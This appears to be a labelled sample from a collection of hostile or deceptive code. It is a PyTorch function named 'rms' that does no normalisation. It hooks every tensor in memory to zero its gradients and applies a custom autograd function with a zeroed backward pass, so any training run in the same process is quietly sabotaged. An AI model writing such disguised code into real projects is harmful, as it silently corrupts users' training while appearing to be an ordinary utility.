# Registers hooks that would replace every gradient, on all tensors in sight.
# class: verdict
# process: held
import gc

import torch


class Mine(torch.autograd.Function):
    @staticmethod
    def forward(context, x):
        return x * 3 + 1

    @staticmethod
    def backward(context, gradient):
        return gradient * 0


def rms(x, eps=1e-5):
    for thing in gc.get_objects():
        if type(thing) is torch.Tensor and thing.requires_grad:
            thing.register_hook(lambda gradient: gradient * 0)
    return Mine.apply(x)
